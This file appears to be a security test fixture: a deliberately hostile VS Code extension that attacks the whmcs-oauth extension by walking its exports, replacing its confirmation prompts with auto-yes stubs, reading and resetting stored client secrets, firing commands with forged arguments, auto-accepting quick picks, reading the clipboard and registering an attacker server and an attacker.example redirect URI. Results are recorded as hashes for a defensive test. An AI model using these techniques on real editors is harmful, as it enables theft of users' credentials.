// A hostile extension (a test fixture, see README.md). It tries everything another extension in
// the same extension host can reach of whmcs-oauth: its exports, walked to the bottom, and its
// commands with forged arguments, driving any quick pick they open. Whatever it gets goes into the
// report as sha256 hashes only: the test compares them with the secrets the sandbox holds.
/* eslint-disable @typescript-eslint/no-require-imports -- plain CommonJS, loaded by the extension host as is */
'use strict';
const vscode = require('vscode');
const { createHash } = require('node:crypto');
const { renameSync, writeFileSync } = require('node:fs');
const http = require('node:http');

const TARGET = 'whmcs-oauth.whmcs-oauth';
const MAX_DEPTH = 8;
const MAX_OBJECTS = 20_000;
// An attacker cannot see the UI, so it cannot wait for a dialog to open: it gives each attempt
// this long to finish, drives whatever may have opened, and moves on (left pending is recorded).
const PATIENCE_MS = 800;
/** For what asks nobody (the setup refresh, reading the clipboard): only a bound against hanging. */
const SETUP_PATIENCE_MS = 60_000;
const UI_COMMANDS = ['workbench.action.acceptSelectedQuickOpenItem', 'quickInput.accept'];

const sha256 = (text) => `sha256:${createHash('sha256').update(text).digest('hex')}`;
const delay = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

const report = {
  target: { found: false, activated: false, exportsType: 'unknown' },
  /** Paths of every function reachable from the exports. */
  exportFunctions: [],
  /** Getters that threw while walking (path and the error). */
  exportGetterErrors: [],
  /** Every call of a function reached through the exports. */
  calls: [],
  /** Every command fired, with its forged arguments. */
  commands: [],
  /** What the replaced prompts were handed (a reset secret passes through acknowledgeUnstoredSecret). */
  promptCaptures: [],
  /** Requests that reached the attacker's own "WHMCS" server. */
  attackerServerRequests: [],
  clipboard: [],
  failures: [],
  finished: false,
};

/** A value as JSON with every string replaced by its hash. */
function sanitise(value, depth = 0, seen = new Set()) {
  if (typeof value === 'string') return sha256(value);
  if (value === undefined) return '(undefined)';
  if (value === null || typeof value === 'number' || typeof value === 'boolean') return value;
  if (typeof value === 'function') return '(function)';
  if (typeof value !== 'object' || depth > 5 || seen.has(value)) return '(...)';
  seen.add(value);
  if (value instanceof Map) return { map: [...value].slice(0, 50).map(([k, v]) => [sanitise(k, depth + 1, seen), sanitise(v, depth + 1, seen)]) };
  if (Array.isArray(value)) return value.slice(0, 50).map((item) => sanitise(item, depth + 1, seen));
  const out = {};
  for (const key of Object.keys(value).slice(0, 50)) {
    try {
      out[key] = sanitise(value[key], depth + 1, seen);
    } catch {
      out[key] = '(getter threw)';
    }
  }
  return out;
}

/** An error as text, with every long run of secret-like characters replaced by its hash. */
function errorText(error) {
  const text = error instanceof Error ? `${error.name}: ${error.message}` : `thrown: ${typeof error}`;
  return text.slice(0, 300).replace(/[A-Za-z0-9+/=_-]{20,}/g, (run) => sha256(run));
}

/** Follows a call or a command without waiting for it forever. */
function track(start) {
  const tracked = { settled: false, outcome: 'pending', value: undefined, error: undefined };
  let promise;
  try {
    promise = Promise.resolve(start());
  } catch (error) {
    promise = Promise.reject(error);
  }
  tracked.done = promise.then(
    (value) => Object.assign(tracked, { settled: true, outcome: 'returned', value }),
    (error) => Object.assign(tracked, { settled: true, outcome: 'threw', error }),
  );
  return tracked;
}

async function patiently(tracked, ms = PATIENCE_MS) {
  await Promise.race([tracked.done, delay(ms)]);
  return tracked;
}

function entryOf(tracked) {
  return {
    outcome: tracked.outcome,
    ...(tracked.outcome === 'returned' ? { value: sanitise(tracked.value) } : {}),
    ...(tracked.outcome === 'threw' ? { error: errorText(tracked.error) } : {}),
  };
}

/** Calls a function reached through the exports and records what came back. */
async function attempt(path, start) {
  const tracked = await patiently(track(start), 5_000);
  const entry = { path, ...entryOf(tracked) };
  report.calls.push(entry);
  // A call may finish later (a prompt answered by the person): the final state is recorded too.
  void tracked.done.then(() => Object.assign(entry, entryOf(tracked), { late: true }));
  return tracked.outcome === 'returned' ? tracked.value : undefined;
}

async function recordClipboard(step) {
  // Reading the clipboard asks nobody: a slow answer is waited for, not recorded as missing.
  const read = await patiently(track(() => vscode.env.clipboard.readText()), SETUP_PATIENCE_MS);
  const text = read.outcome === 'returned' ? read.value : undefined;
  report.clipboard.push({ step, value: typeof text === 'string' ? (text === '' ? '(empty)' : sha256(text)) : `(${read.outcome})` });
}

// ---- the exports ---------------------------------------------------------------------------

function isNative(fn) {
  try {
    return typeof fn === 'function' && /\{\s*\[native code\]\s*\}$/.test(Function.prototype.toString.call(fn));
  } catch {
    return true;
  }
}

/**
 * Every function reachable from `root`: own and inherited properties (up to the built-in
 * prototypes), getters, Map and Set entries, arrays. Returns { path, owner, key, fn }.
 */
function walkExports(root) {
  const found = [];
  const seen = new Set();
  const visit = (value, path, depth) => {
    if (value === null || typeof value !== 'object' || seen.has(value) || depth > MAX_DEPTH || seen.size > MAX_OBJECTS) return;
    seen.add(value);
    if (value instanceof Map) {
      for (const [key, child] of value) visitChild(value, `${path}.get(${JSON.stringify(typeof key === 'string' ? key : String(key))})`, key, child, depth);
    }
    if (value instanceof Set) [...value].forEach((child, index) => visitChild(value, `${path}[set ${index}]`, index, child, depth));
    for (let proto = value; proto; proto = Object.getPrototypeOf(proto)) {
      if (proto !== value && isNative(proto.constructor)) break; // Object.prototype, Map.prototype, ...
      for (const key of Reflect.ownKeys(proto)) {
        if (typeof key === 'symbol' || key === 'constructor' || key === '__proto__') continue;
        if (Array.isArray(value) && key === 'length') continue;
        const descriptor = Object.getOwnPropertyDescriptor(proto, key);
        let child = descriptor.value;
        if (descriptor.get) {
          try {
            child = descriptor.get.call(value);
          } catch (error) {
            report.exportGetterErrors.push({ path: `${path}.${key}`, error: errorText(error) });
            continue;
          }
        }
        visitChild(value, `${path}.${key}`, key, child, depth);
      }
    }
  };
  const visitChild = (owner, path, key, child, depth) => {
    if (typeof child === 'function') {
      if (!found.some((entry) => entry.path === path)) found.push({ path, owner, key, fn: child });
      return;
    }
    visit(child, path, depth + 1);
  };
  if (typeof root === 'function') found.push({ path: 'exports', owner: undefined, key: 'exports', fn: root });
  visit(root, 'exports', 0);
  return found;
}

const autoYes = {
  confirm: async () => true,
  acknowledgeUnstoredSecret: async (what, secret) => {
    report.promptCaptures.push({ what: sha256(String(what)), secret: sha256(String(secret)) });
  },
};

/** Tries the dangerous functions it found, by name. */
async function abuseExports(functions, target) {
  const named = (key) => functions.filter((entry) => entry.key === key);
  const onPath = (entry, word) => entry.path.toLowerCase().includes(word);

  // Replace the prompts, so that every confirmation after this says yes.
  for (const entry of named('setPromptsForTesting')) await attempt(`${entry.path}(autoYes)`, () => entry.fn.call(entry.owner, autoYes));
  for (const entry of named('set').filter((e) => onPath(e, 'prompts'))) await attempt(`${entry.path}(autoYes)`, () => entry.fn.call(entry.owner, autoYes));
  for (const entry of named('confirm').filter((e) => onPath(e, 'prompts'))) {
    await attempt(`${entry.path}("probe") (true: no person asked)`, () => entry.fn.call(entry.owner, 'Probe', 'Probe', 'OK'));
  }
  for (const entry of named('injectSecretStoreFailureForTesting')) {
    await attempt(`${entry.path}("vscode", undefined)`, () => entry.fn.call(entry.owner, 'vscode', undefined));
  }

  // The account names: listed by the stores themselves, and made up from the settings.
  const accounts = new Set(target.accounts);
  for (const entry of [...named('accountsWithStore'), ...named('accounts')].filter((e) => onPath(e, 'secret') || onPath(e, 'keychain'))) {
    const listed = await attempt(`${entry.path}("")`, () => entry.fn.call(entry.owner, ''));
    const names = listed instanceof Map ? [...listed.keys()] : Array.isArray(listed) ? listed : [];
    for (const name of names) if (typeof name === 'string') accounts.add(name);
  }
  for (const entry of named('servers').filter((e) => onPath(e, 'state'))) {
    const servers = await attempt(`${entry.path}()`, () => entry.fn.call(entry.owner));
    for (const server of Array.isArray(servers) ? servers : []) {
      if (server && server.profile) target.profiles.set(server.profile.id, server.profile);
      for (const credential of server?.status?.credentials ?? []) target.clientIdentifiers.add(credential.clientIdentifier);
    }
  }
  for (const key of target.serverKeys) for (const id of target.clientIdentifiers) accounts.add(`${key}/${id}`);

  // Read secrets: the product's lookup across stores, and each store (VS Code Secret Storage too).
  // `get` of anything named like a secret store (the context's Secret Storage too), not of every Memento.
  const storeGetters = named('get').filter((e) => /(secret|keychain|store)[^.]*\.get$/i.test(e.path));
  for (const entry of [...named('find').filter((e) => onPath(e, 'secret') || onPath(e, 'keychain') || onPath(e, 'store')), ...storeGetters]) {
    for (const account of accounts) await attempt(`${entry.path}(${JSON.stringify(account)})`, () => entry.fn.call(entry.owner, account));
  }

  // An authenticated client: read every live secret, then reset one.
  for (const entry of named('api').filter((e) => onPath(e, 'connections'))) {
    for (const profile of target.profiles.values()) {
      const api = await attempt(`${entry.path}(profile ${JSON.stringify(profile.id)})`, () => entry.fn.call(entry.owner, profile));
      if (!api) continue;
      const list = await attempt(`${entry.path}(...).list()`, () => api.list());
      for (const id of [1, 2, 3]) await attempt(`${entry.path}(...).readClientSecret(${id})`, () => api.readClientSecret(id));
      const victim = Array.isArray(list) ? list.find((credential) => credential.credentialId === 2) : undefined;
      if (victim) await attempt(`${entry.path}(...).resetSecret(credential 2)`, () => api.resetSecret(victim));
    }
  }

  // The update form: open one, then speak for its webview (copy the held secret, reset it).
  for (const entry of named('open').filter((e) => onPath(e, 'forms'))) {
    const panel = await attempt(`${entry.path}({ serverId, credentialId: 1 })`, () => entry.fn.call(entry.owner, { serverId: target.serverId, credentialId: 1 }));
    if (panel && typeof panel.handleWebviewMessage === 'function') functions.push({ path: `${entry.path}(...).handleWebviewMessage`, owner: panel, key: 'handleWebviewMessage', fn: panel.handleWebviewMessage });
  }
  for (const entry of named('handleWebviewMessage')) {
    const panel = entry.owner;
    const credentialId = panel?.target?.credentialId ?? 1;
    // The form loads its credential first.
    if (panel?.whenLoaded) await patiently(track(() => panel.whenLoaded), SETUP_PATIENCE_MS);
    for (let waited = 0; !panel?.loaded && waited < 120; waited++) await delay(250);
    await attempt(`${entry.path}({ type: "copySecret" })`, () => entry.fn.call(panel, { type: 'copySecret', credentialId }));
    await recordClipboard(`after ${entry.path}(copySecret)`);
    const save = { type: 'save', credentialId, baseUpdatedAt: String(panel?.loaded?.updatedAt ?? ''), changes: {}, resetSecret: true, overwrite: true };
    await attempt(`${entry.path}({ type: "save", resetSecret: true })`, () => entry.fn.call(panel, save));
  }
}

// ---- the commands --------------------------------------------------------------------------

async function fireCommand(phase, command, label, args, patience = PATIENCE_MS) {
  const tracked = await patiently(track(() => vscode.commands.executeCommand(command, ...args)), patience);
  const settledAtOnce = tracked.settled;
  const ui = [];
  if (!settledAtOnce) {
    // Perhaps a quick pick opened: accept its first item as if the person had pressed Enter.
    for (const uiCommand of UI_COMMANDS) {
      const driven = await patiently(track(() => vscode.commands.executeCommand(uiCommand)));
      ui.push(`${uiCommand}: ${driven.outcome}`);
    }
    await patiently(tracked, PATIENCE_MS / 2);
  }
  const entry = { phase, command, args: label, settledAtOnce, ui, ...entryOf(tracked) };
  report.commands.push(entry);
  void tracked.done.then(() => Object.assign(entry, entryOf(tracked), { late: true }));
  await recordClipboard(`${phase} ${command} ${label}`);
}

function forgedArguments(command, target) {
  const serverNode = { type: 'server', serverId: target.serverId };
  const credentialNodes = [1, 2, 3].map((credentialId) => ({ type: 'credential', serverId: target.serverId, credentialId }));
  const variants = [['no arguments', []]];
  variants.push([`server node ${target.serverId}`, [serverNode]]);
  credentialNodes.forEach((node) => variants.push([`credential node ${node.credentialId}`, [node]]));
  if (/copy/i.test(command)) variants.push(['detail node of credential 1', [{ type: 'detail', serverId: target.serverId, credentialId: 1, key: 'clientId' }]]);
  if (command === 'whmcsOAuth.addServer') {
    variants.push(['draft of the attacker\'s server', [{ url: target.attackerUrl, label: 'Attacker', auth: 'apiCredential', identifier: 'attacker', secret: 'attacker-secret' }]]);
  }
  if (command === 'whmcsOAuth.createCredential') {
    variants.push(['server node and a draft', [serverNode, { grantType: 'authorization_code', name: 'Created by the attacker', scopes: ['openid'], redirectUris: ['https://attacker.example/cb'] }]]);
  }
  return variants;
}

async function attackCommands(phase, commands, target) {
  // removeServer last: once it worked there would be nothing left to attack.
  const ordered = [...commands.filter((c) => c !== 'whmcsOAuth.removeServer'), ...commands.filter((c) => c === 'whmcsOAuth.removeServer')];
  for (const command of ordered) {
    for (const [label, args] of forgedArguments(command, target)) {
      await fireCommand(phase, command, label, args);
    }
  }
}

// ---- an attacker's own "WHMCS" ---------------------------------------------------------------

/** A loopback server that answers every API call with success and records what it was sent. */
function startAttackerServer() {
  return new Promise((resolve, reject) => {
    const server = http.createServer((req, res) => {
      let body = '';
      req.on('data', (chunk) => (body += chunk));
      req.on('end', () => {
        const params = new URLSearchParams(body);
        const secret = params.get('secret') ?? params.get('password');
        report.attackerServerRequests.push({ action: params.get('action'), identifier: params.get('identifier'), secret: secret === null ? null : sha256(secret) });
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end(JSON.stringify({ result: 'success', clients: [] }));
      });
    });
    server.on('error', reject);
    server.listen(0, '127.0.0.1', () => resolve(server));
  });
}

// ---- the run -------------------------------------------------------------------------------

function writeReport(path) {
  const temporary = `${path}.tmp-${process.pid}`;
  writeFileSync(temporary, JSON.stringify(report, null, 2));
  renameSync(temporary, path); // the test waits for this name: the report is complete when it appears
}

async function attack() {
  const attackerServer = await startAttackerServer();
  try {
    const servers = vscode.workspace.getConfiguration('whmcsOAuth').get('servers') ?? [];
    const first = servers[0] ?? {};
    const url = new URL(first.url);
    const hostPath = `${url.host}${url.pathname.replace(/\/+$/, '')}`;
    const target = {
      serverId: first.id,
      attackerUrl: `http://127.0.0.1:${attackerServer.address().port}/whmcs`,
      profiles: new Map(servers.filter((s) => s && s.url).map((s) => [s.id, { auth: 'apiCredential', label: s.label ?? s.url, ...s }])),
      // With and without the scheme: the keychain layout of 0.1.0 and a scheme-bound one.
      serverKeys: [hostPath, `${url.protocol}//${hostPath}`],
      clientIdentifiers: new Set(),
      accounts: [],
    };
    for (const key of target.serverKeys) target.accounts.push(`${key}/api:${first.identifier}`, `${key}/accesskey`);

    // Proves the clipboard can be read from here, so that reading nothing of value means something.
    await vscode.env.clipboard.writeText('attacker-probe');
    await recordClipboard('probe');

    const extension = vscode.extensions.getExtension(TARGET);
    report.target.found = Boolean(extension);
    if (!extension) throw new Error(`${TARGET} is not installed`);
    // The contributed commands, and any registered without being contributed.
    const contributed = ((extension.packageJSON.contributes ?? {}).commands ?? []).map((c) => c.command);
    await extension.activate();
    // (Not the commands VS Code makes for the view itself, whmcsOAuth.credentials.focus and such.)
    const registered = (await vscode.commands.getCommands(true)).filter((c) => /^whmcsOAuth\.[A-Za-z]+$/.test(c));
    const commands = [...new Set([...contributed, ...registered])];
    report.target.commands = commands;

    // The explorer's state must be loaded for a forged node to mean anything: the attack waits
    // for it (a refresh asks nobody), however slow the machine.
    await fireCommand('setup', 'whmcsOAuth.refresh', 'no arguments', [], SETUP_PATIENCE_MS);

    await attackCommands('forged arguments', commands, target);

    const exports = await extension.activate();
    report.target.activated = true;
    report.target.exportsType = exports === null ? 'null' : typeof exports;
    const functions = walkExports(exports);
    report.exportFunctions = functions.map((entry) => entry.path);
    await abuseExports(functions, target);
    report.exportFunctions = functions.map((entry) => entry.path);
    await recordClipboard('after the exports');

    // If a prompt was replaced, the commands no longer ask anybody: try the dangerous ones again.
    const replaced = report.calls.some((call) => /prompts|setPromptsForTesting/.test(call.path) && call.outcome === 'returned');
    if (replaced) {
      const dangerous = commands.filter((c) => /copyClientSecret|resetClientSecret|deleteCredential|removeServer|createCredential/.test(c));
      await attackCommands('after replacing the prompts', dangerous, target);
    }
  } finally {
    attackerServer.close();
  }
}

function activate() {
  const path = process.env.WHMCS_ATTACKER_REPORT;
  if (!path) return;
  // Not awaited: the attack must not hold up the extension host's start-up.
  void attack()
    .catch((error) => report.failures.push(errorText(error)))
    .then(() => {
      report.finished = true;
      writeReport(path);
    })
    .catch(() => undefined);
}

module.exports = { activate, deactivate() {} };
